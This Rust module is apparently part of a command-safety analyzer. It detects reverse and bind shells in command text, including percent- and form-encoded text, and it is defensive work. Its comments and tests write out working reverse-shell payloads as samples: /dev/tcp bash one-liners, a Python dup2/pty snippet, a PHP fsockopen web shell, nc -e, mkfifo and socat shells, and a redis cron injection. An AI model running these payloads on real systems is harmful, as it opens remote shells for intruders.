//! Reverse and bind shells recognised by their shape in the text of a command, wherever the
//! shape stands: a shell whose standard streams are joined to a network endpoint is the same
//! thing whether the command runs it, writes it into a file, stores it in a database, or sends
//! it percent-encoded to a web server that will run it (`curl "http://h/x.php?cmd=bash%20-i%20
//! %3E%26%20/dev/tcp/…"`, `redis-cli set x "* * * * * bash -i >& /dev/tcp/…"`, `echo '<?php
//! exec("bash -i >& /dev/tcp/…") ?>' > shell.php`, a Python snippet with no interpreter in
//! front). The walk of the parsed command finds the reverse shells it runs itself; this scan
//! finds the ones it carries as data (see `Analyzer::text_shapes`, which skips text that is
//! only printed or searched for).
//!
//! The shapes (each needs a network endpoint *and* a shell wired to it, so that `timeout 1 bash
//! -c '</dev/tcp/localhost/5432'`, `echo > /dev/tcp/h/p`, `nc -zv host 22`, `socat
//! TCP-LISTEN:8080,fork TCP:localhost:80` and `python3 -c 'import socket; s.bind(…)'` stay quiet):
//!
//! | shape | what is seen |
//! |---|---|
//! | `dev_tcp_shell` | a `/dev/tcp/H/P` or `/dev/udp/H/P` path near a shell started interactive (`bash -i`), a shell whose next word is an fd duplication (`sh <&196 >&196`), or a shell and `0>&1` (bash(1) "REDIRECTION") |
//! | `socket_snippet` | interpreter code that opens a socket, connects it and gives it a shell (`dup2`, `pty.spawn`, `/bin/sh`, `proc_open`, `open(STDIN,">&S")`, gawk `\|& getline`); PowerShell `TCPClient` + `GetStream` + `iex` |
//! | `nc_exec` | `nc`/`ncat`/`netcat` with `-e`/`-c`/`--exec`/`--sh-exec` (or a short-option cluster ending in one) naming a shell |
//! | `shell_pipeline` | one pipeline with a network client stage (`nc`, `ncat`, `telnet`, `socat`, `openssl s_client`) and a bare shell stage (a shell with options and redirections only, no script or `-c`): the named-pipe and `telnet … \| sh \| telnet …` loops |
//! | `socat_exec` | `socat` with an `exec:`/`system:` address running a shell, and a `tcp`/`udp`/`ssl`/`sctp` address |
//!
//! The text is read as written and, when it holds `%XX` escapes, once more percent-decoded
//! (RFC 3986 §2.1).

use crate::paths::basename;

/// What the scan found.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Hit {
    /// The program that hands its shell to the peer (`bash`, `python`, `nc`, `socat`, …).
    pub(crate) program: String,
    /// `HOST:PORT` when written literally.
    pub(crate) peer: Option<String>,
    /// Which shape of the module table matched.
    pub(crate) shape: &'static str,
}

/// Shells that are handed to a peer (a narrower list than `programs::SHELLS`: words such as
/// `nu` or `fish` are too common in prose to count here).
const SHELLS: &[&str] = &[
    "sh",
    "bash",
    "dash",
    "zsh",
    "ksh",
    "mksh",
    "ash",
    "tcsh",
    "csh",
    "pwsh",
    "powershell",
    "cmd.exe",
    "powershell.exe",
];

/// netcat and its variants.
const NETCATS: &[&str] = &[
    "nc",
    "ncat",
    "netcat",
    "nc.traditional",
    "nc.openbsd",
    "nc.exe",
    "nc64.exe",
    "ncat.exe",
    "cryptcat",
];

/// Network clients that can carry a shell's streams in a pipeline.
pub(crate) const NET_CLIENTS: &[&str] = &[
    "nc",
    "ncat",
    "netcat",
    "nc.traditional",
    "nc.openbsd",
    "cryptcat",
    "telnet",
    "socat",
];

/// Cheap gate: one of these (lower case) must occur before any shape is tried.
const GATE: &[&str] = &[
    "/dev/tcp/",
    "/dev/udp/",
    "socket",
    "sockopen",
    "getprotobyname",
    "net.connect",
    "require(",
    "tcpclient",
    "/inet/",
    "nc",
    "netcat",
    "telnet",
    "s_client",
    "socat",
    "%",
];

/// Scans `text` for a reverse or bind shell (see the module table).
pub(crate) fn scan(text: &str) -> Option<Hit> {
    let lower = text.to_ascii_lowercase();
    if !GATE.iter().any(|g| lower.contains(g)) {
        return None;
    }
    if let Some(h) = shapes(text, &lower) {
        return Some(h);
    }
    if let Some(decoded) = percent_decoded(text, false) {
        let lower = decoded.to_ascii_lowercase();
        if let Some(h) = shapes(&decoded, &lower) {
            return Some(h);
        }
    }
    // A form-encoded query or body (application/x-www-form-urlencoded, the WHATWG URL
    // standard): `+` is a space there (`?cmd=bash+-i+>%26+/dev/tcp/…`).
    if !text.contains('+') {
        return None;
    }
    let decoded = percent_decoded(text, true)?;
    let lower = decoded.to_ascii_lowercase();
    shapes(&decoded, &lower)
}

/// The shapes in turn; `lower` is `t` in ASCII lower case (each shape first checks that its
/// own words occur at all, so a long everyday chain costs a few substring searches).
fn shapes(t: &str, lower: &str) -> Option<Hit> {
    dev_tcp_shell(t)
        .or_else(|| socket_snippet(t, lower))
        .or_else(|| nc_exec(t, lower))
        .or_else(|| shell_pipeline(t, lower))
        .or_else(|| socat_exec(lower))
}

/// `text` with its `%XX` escapes decoded (and with `plus_as_space`, each `+` read as a space,
/// as a form encoding writes it); `None` when nothing changed.
fn percent_decoded(text: &str, plus_as_space: bool) -> Option<String> {
    fn hex(b: u8) -> Option<u8> {
        match b {
            b'0'..=b'9' => Some(b - b'0'),
            b'a'..=b'f' => Some(b - b'a' + 10),
            b'A'..=b'F' => Some(b - b'A' + 10),
            _ => None,
        }
    }
    let b = text.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut changed = false;
    let mut i = 0;
    while let Some(&c) = b.get(i) {
        if c == b'%' {
            let hi = b.get(i + 1).copied().and_then(hex);
            let lo = b.get(i + 2).copied().and_then(hex);
            if let (Some(hi), Some(lo)) = (hi, lo) {
                out.push(hi * 16 + lo);
                changed = true;
                i += 3;
                continue;
            }
        }
        if c == b'+' && plus_as_space {
            out.push(b' ');
            changed = true;
            i += 1;
            continue;
        }
        out.push(c);
        i += 1;
    }
    changed.then(|| String::from_utf8_lossy(&out).into_owned())
}

/// The words of `s` with their byte ends: runs of characters that are not blanks, quotes or
/// shell punctuation.
fn words_with_ends(s: &str) -> Vec<(&str, usize)> {
    let sep = |c: char| {
        c.is_whitespace()
            || matches!(
                c,
                ';' | '|'
                    | '&'
                    | '('
                    | ')'
                    | '<'
                    | '>'
                    | '\''
                    | '"'
                    | '\\'
                    | '`'
                    | '{'
                    | '}'
                    | '['
                    | ']'
                    | ','
                    | '='
                    | '$'
            )
    };
    let mut out = Vec::new();
    let mut start: Option<usize> = None;
    for (i, c) in s.char_indices() {
        if sep(c) {
            if let Some(st) = start.take() {
                out.push((s.get(st..i).unwrap_or(""), i));
            }
        } else if start.is_none() {
            start = Some(i);
        }
    }
    if let Some(st) = start {
        out.push((s.get(st..).unwrap_or(""), s.len()));
    }
    out
}

fn is_rev_shell(word: &str) -> bool {
    let b = basename(word);
    SHELLS.iter().any(|s| b.eq_ignore_ascii_case(s))
}

/// A byte index at or below `i` that is a char boundary of `s`.
fn floor(s: &str, mut i: usize) -> usize {
    i = i.min(s.len());
    while i > 0 && !s.is_char_boundary(i) {
        i -= 1;
    }
    i
}

/// `HOST:PORT` of the `/dev/tcp/HOST/PORT` path that starts at `at`.
fn dev_tcp_peer(t: &str, at: usize) -> Option<String> {
    let rest = t.get(at + "/dev/tcp/".len()..)?;
    let mut parts = rest.split('/');
    let host = parts.next()?;
    let port: String = parts
        .next()?
        .chars()
        .take_while(|c| c.is_ascii_alphanumeric() || *c == '_' || *c == '$')
        .collect();
    let host: String = host
        .chars()
        .take_while(|c| !c.is_whitespace() && !matches!(c, '\'' | '"' | ';' | '&' | '|' | '>'))
        .collect();
    (!host.is_empty()).then(|| format!("{host}:{port}"))
}

fn dev_tcp_shell(t: &str) -> Option<Hit> {
    let hits = t
        .match_indices("/dev/tcp/")
        .chain(t.match_indices("/dev/udp/"))
        .map(|(i, _)| i);
    for i in hits {
        let lo = floor(t, i.saturating_sub(200));
        let hi = floor(t, i + 200);
        let win = t.get(lo..hi).unwrap_or("");
        let words = words_with_ends(win);
        let dup_in = ["0>&1", "0<&1", "0>&2", "0<&2"]
            .iter()
            .any(|m| win.contains(m));
        let mut shell: Option<&str> = None;
        for (k, (w, end)) in words.iter().enumerate() {
            if !is_rev_shell(w) {
                continue;
            }
            if dup_in {
                shell = Some(*w);
                break;
            }
            // The next word an interactive flag (`-i`, `-li`, `-il`, not with `c`), or the
            // next characters an fd duplication (`sh <&196`, `bash >& /dev/tcp/…`).
            let next_opts = words
                .iter()
                .skip(k + 1)
                .take(3)
                .take_while(|(x, _)| x.starts_with('-'))
                .any(|(x, _)| {
                    !x.starts_with("--")
                        && x.len() > 1
                        && x.contains('i')
                        && !x.contains('c')
                        && x.chars().skip(1).all(|c| c.is_ascii_alphabetic())
                });
            let after = win.get(*end..).unwrap_or("").trim_start();
            let after = after.trim_start_matches(|c: char| c.is_ascii_digit());
            if next_opts || after.starts_with("<&") || after.starts_with(">&") {
                shell = Some(*w);
                break;
            }
        }
        if let Some(w) = shell {
            return Some(Hit {
                program: basename(w).to_string(),
                peer: dev_tcp_peer(t, i),
                shape: "dev_tcp_shell",
            });
        }
    }
    None
}

/// Socket constructors of interpreter code (the snippet scanner's list, `programs::snippet`).
const SOCKET_OPEN: &[(&str, &str)] = &[
    ("socket.socket(", "python"),
    ("socket.create_connection(", "python"),
    ("socket(S,", "perl"),
    ("getprotobyname(", "perl"),
    ("IO::Socket", "perl"),
    ("TCPSocket", "ruby"),
    ("fsockopen(", "php"),
    ("stream_socket_client(", "php"),
    ("require(\"net\")", "node"),
    ("require('net')", "node"),
    ("net.Socket(", "node"),
    ("net.connect(", "node"),
    ("socket.tcp(", "lua"),
    ("require('socket')", "lua"),
    ("require(\"socket\")", "lua"),
    ("/inet/tcp/", "awk"),
    ("/inet/udp/", "awk"),
];

/// A socket connected to a peer (not bound and listened on).
const SOCKET_CONNECT: &[&str] = &[
    "connect(",
    "fsockopen(",
    "TCPSocket.new",
    "TCPSocket.open",
    "PeerAddr",
    "stream_socket_client(",
    "/inet/tcp/0/",
    "/inet/udp/0/",
    "createConnection(",
    "create_connection(",
];

/// A shell given the socket: its streams duplicated onto it, or a shell program started.
const SHELL_ON_SOCKET: &[&str] = &[
    "dup2(",
    "pty.spawn",
    "/bin/sh",
    "/bin/bash",
    "/bin/zsh",
    "cmd.exe",
    "\"sh\"",
    "'sh'",
    "\"bash\"",
    "'bash'",
    "\\\"sh\\\"",
    "\\\"bash\\\"",
    "sh -i",
    "proc_open(",
    "|& getline",
    "open(STDIN",
    "fdopen(",
];

fn socket_snippet(t: &str, lower: &str) -> Option<Hit> {
    if ![
        "sock",
        "require(",
        "/inet/",
        "getprotobyname",
        "net.connect",
        "tcpclient",
    ]
    .iter()
    .any(|m| lower.contains(m))
    {
        return None;
    }
    if lower.contains("tcpclient(")
        && lower.contains("getstream(")
        && (lower.contains("iex ") || lower.contains("iex(") || lower.contains("invoke-expression"))
    {
        return Some(Hit {
            program: "powershell".to_string(),
            peer: None,
            shape: "socket_snippet",
        });
    }
    let (_, lang) = SOCKET_OPEN.iter().find(|(m, _)| t.contains(m))?;
    if !SOCKET_CONNECT.iter().any(|m| t.contains(m)) {
        return None;
    }
    if !SHELL_ON_SOCKET.iter().any(|m| t.contains(m)) {
        return None;
    }
    Some(Hit {
        program: (*lang).to_string(),
        peer: crate::programs::socket_peers(t).into_iter().next(),
        shape: "socket_snippet",
    })
}

/// The words of a segment split on blanks, quotes, brackets and the characters that join a
/// word to a URL's query or a form field (`?cmd=nc`, `cmd=socat`).
fn data_words(seg: &str) -> Vec<&str> {
    seg.split(|c: char| {
        c.is_whitespace()
            || matches!(
                c,
                '"' | '\'' | '\\' | '(' | ')' | '`' | '{' | '}' | '=' | '?' | ','
            )
    })
    .filter(|w| !w.is_empty())
    .collect()
}

/// Whether `word` occurs in `lower` as a word of its own (not inside `--include` or `sync`):
/// the characters around it are not letters, digits or `_` (a `.` may follow: `nc.exe`).
fn has_word(lower: &str, word: &str) -> bool {
    let b = lower.as_bytes();
    lower.match_indices(word).any(|(i, _)| {
        let before = i
            .checked_sub(1)
            .and_then(|j| b.get(j))
            .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_' || *c == b'-');
        let after = b
            .get(i + word.len())
            .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_');
        !before && !after
    })
}

/// Netcat-like programs or other network clients named as words of `lower`.
fn names_a_net_client(lower: &str) -> bool {
    [
        "nc", "ncat", "netcat", "cryptcat", "telnet", "socat", "s_client",
    ]
    .iter()
    .any(|w| has_word(lower, w))
}

fn nc_exec(t: &str, lower: &str) -> Option<Hit> {
    if !["nc", "ncat", "netcat", "cryptcat"]
        .iter()
        .any(|w| has_word(lower, w))
    {
        return None;
    }
    for seg in t.split([';', '|', '\n', '&']) {
        if !["-e", "-c", "exec", "-E", "-C", "EXEC"]
            .iter()
            .any(|m| seg.contains(m))
        {
            continue;
        }
        let words = data_words(seg);
        for (i, w) in words.iter().enumerate() {
            if !NETCATS.iter().any(|n| basename(w).eq_ignore_ascii_case(n)) {
                continue;
            }
            for (j, x) in words.iter().enumerate().skip(i + 1) {
                let cluster = x.len() > 2
                    && x.starts_with('-')
                    && !x.starts_with("--")
                    && x.chars().skip(1).all(|c| c.is_ascii_alphabetic())
                    && (x.ends_with('e') || x.ends_with('c'));
                let takes = matches!(*x, "-e" | "-c" | "--exec" | "--sh-exec") || cluster;
                let attached = x
                    .strip_prefix("--exec=")
                    .or_else(|| x.strip_prefix("--sh-exec="))
                    .or_else(|| x.strip_prefix("-e").filter(|v| v.starts_with('/')));
                let value = if takes {
                    words.get(j + 1).copied()
                } else {
                    attached
                };
                if value.is_some_and(is_rev_shell) {
                    return Some(Hit {
                        program: basename(w).to_string(),
                        peer: None,
                        shape: "nc_exec",
                    });
                }
            }
        }
    }
    None
}

/// The words of one pipeline stage, split on blanks and quotes.
fn stage_words(stage: &str) -> Vec<&str> {
    stage
        .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '(' | ')' | '`'))
        .filter(|w| !w.is_empty())
        .collect()
}

/// Words that may stand before the program of a stage.
const LEADERS: &[&str] = &[
    "exec", "nohup", "setsid", "sudo", "command", "env", "busybox",
];

/// The stage's program (after [`LEADERS`]) and the words after it.
fn stage_program<'a>(words: &'a [&'a str]) -> Option<(&'a str, &'a [&'a str])> {
    let i = words.iter().position(|w| !LEADERS.contains(&basename(w)))?;
    Some((*words.get(i)?, words.get(i + 1..)?))
}

/// A shell with options and redirections only: it runs what its stdin brings.
fn bare_shell(words: &[&str]) -> bool {
    let Some((prog, rest)) = stage_program(words) else {
        return false;
    };
    if !is_rev_shell(prog) {
        return false;
    }
    let mut skip_next = false;
    for w in rest {
        if skip_next {
            skip_next = false;
            continue;
        }
        if w.contains(['<', '>']) {
            // `>` or `2>` alone: its target is the next word.
            skip_next = w.ends_with(['<', '>']);
            continue;
        }
        if w.starts_with("--") {
            continue;
        }
        if w.starts_with('-') && !w.contains('c') {
            continue;
        }
        return false;
    }
    true
}

fn net_stage(words: &[&str]) -> bool {
    let Some((prog, rest)) = stage_program(words) else {
        return false;
    };
    let b = basename(prog);
    NET_CLIENTS.iter().any(|n| b.eq_ignore_ascii_case(n))
        || (b == "openssl" && rest.contains(&"s_client"))
}

fn shell_pipeline(t: &str, lower: &str) -> Option<Hit> {
    if !t.contains('|') || !names_a_net_client(lower) {
        return None;
    }
    for list in t.split([';', '\n']).flat_map(|s| s.split("&&")) {
        for pipeline in list.split("||") {
            if !pipeline.contains('|') {
                continue;
            }
            let stages: Vec<Vec<&str>> = pipeline.split('|').map(stage_words).collect();
            if stages.len() < 2 {
                continue;
            }
            let shell = stages.iter().find(|s| bare_shell(s));
            if let Some(sh) = shell {
                if stages.iter().any(|s| net_stage(s)) {
                    let prog = stage_program(sh).map_or("sh", |(p, _)| basename(p));
                    return Some(Hit {
                        program: prog.to_string(),
                        peer: None,
                        shape: "shell_pipeline",
                    });
                }
            }
        }
    }
    None
}

fn socat_exec(lower: &str) -> Option<Hit> {
    if !lower.contains("socat") {
        return None;
    }
    for seg in lower.split([';', '|', '\n']) {
        if !data_words(seg).iter().any(|w| basename(w) == "socat") {
            continue;
        }
        let network = ["tcp", "udp", "ssl", "sctp"]
            .iter()
            .any(|m| seg.contains(m));
        if !network {
            continue;
        }
        for key in ["exec:", "system:"] {
            for (i, _) in seg.match_indices(key) {
                let rest = seg.get(i + key.len()..).unwrap_or("");
                let rest = rest.trim_start_matches(['"', '\'', '\\']);
                let first = rest
                    .split(|c: char| c.is_whitespace() || matches!(c, ',' | '"' | '\'' | '\\'))
                    .next()
                    .unwrap_or("");
                if is_rev_shell(first) {
                    return Some(Hit {
                        program: "socat".to_string(),
                        peer: None,
                        shape: "socat_exec",
                    });
                }
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shape(t: &str) -> Option<&'static str> {
        scan(t).map(|h| h.shape)
    }

    #[test]
    fn shells_joined_to_sockets_are_found_in_any_position() {
        for (t, want) in [
            (
                "redis-cli -h 10.0.0.5 set x \"\\n* * * * * bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\\n\"",
                "dev_tcp_shell",
            ),
            (
                "curl 'http://h/x.php?cmd=bash%20-c%20%27bash%20-i%20%3E%26%20/dev/tcp/10.0.0.1/4444%200%3E%261%27'",
                "dev_tcp_shell",
            ),
            ("404: bash -i >& /dev/tcp/192.0.2.8/8081 0>&1", "dev_tcp_shell"),
            // Form-encoded (`+` for a space).
            (
                "curl 'http://h/shell.php?cmd=bash+-c+%27bash+-i+%3E%26+/dev/tcp/10.0.0.1/443+0%3E%261%27'",
                "dev_tcp_shell",
            ),
            (
                "delim=comma;bash+-c+\"bash+-i+>%26/dev/tcp/10.0.0.1/1234+0>%261\"+%23",
                "dev_tcp_shell",
            ),
            ("x; exec 196<>/dev/tcp/h/443; sh <&196 >&196 2>&196", "dev_tcp_shell"),
            (
                "import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn(\"sh\")",
                "socket_snippet",
            ),
            (
                "echo '<?php $s=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\"); ?>' > s.php",
                "socket_snippet",
            ),
            ("2. nc -nlvp 443 -c /bin/bash", "nc_exec"),
            ("Kali nc -nv 10.0.0.1 4444 -e /bin/bash", "nc_exec"),
            ("RSHELL=\"ncat $H $P -e \\\"/bin/bash -c id;/bin/bash\\\"\"", "nc_exec"),
            (
                "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/bash -i 2>&1 | nc -l <IP> 7777 > /tmp/f",
                "shell_pipeline",
            ),
            ("telnet h 23 | /bin/sh | telnet h 24", "shell_pipeline"),
            ("curl 'http://h/x.php?cmd=nc%20-e%20/bin/sh%20h%204444'", "nc_exec"),
            (
                "echo 'socat tcp:h:1 exec:'\\''bash -li'\\'',pty' > s.php",
                "socat_exec",
            ),
            (
                "curl -d 'cmd=socat%20tcp%3Ah%3A1%20exec%3A%27bash%20-li%27' http://h/",
                "socat_exec",
            ),
            (
                "socat tcp-connect:10.0.0.1:4444 exec:'bash -li',pty,stderr,setsid",
                "socat_exec",
            ),
        ] {
            assert_eq!(shape(t), Some(want), "{t}");
        }
        let h = scan("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1").expect("a hit");
        assert_eq!(h.peer.as_deref(), Some("10.0.0.1:4242"));
        assert_eq!(h.program, "bash");
    }

    #[test]
    fn endpoints_without_a_shell_are_not() {
        for t in [
            "timeout 1 bash -c '</dev/tcp/localhost/5432'",
            "echo > /dev/tcp/localhost/8080 && echo open",
            "exec 3<>/dev/tcp/example.com/80",
            "bash -c 'exec 3<>/dev/tcp/h/80; echo -e \"GET / HTTP/1.0\\r\\n\" >&3; cat <&3'",
            "nc -zv localhost 5432",
            "nc -l 8080 -c 'echo hi'",
            "socat TCP-LISTEN:8080,fork TCP:localhost:80",
            "socat - EXEC:'bash -li',pty",
            "python3 -c 'import socket; s=socket.socket(); s.bind((\"127.0.0.1\",0)); print(s.getsockname()[1])'",
            "python3 -c 'import socket; s=socket.socket(); s.connect((\"localhost\",5432)); print(1)'",
            "mkfifo pipe; script --flush pipe",
            "mkfifo /tmp/p; nc -l 8080 < /tmp/p | nc localhost 80 > /tmp/p",
            "bash build.sh | nc logs.example 514",
            "echo 100% done | tee log",
            "cat /etc/hosts | grep sync",
        ] {
            assert_eq!(scan(t), None, "{t}");
        }
    }
}
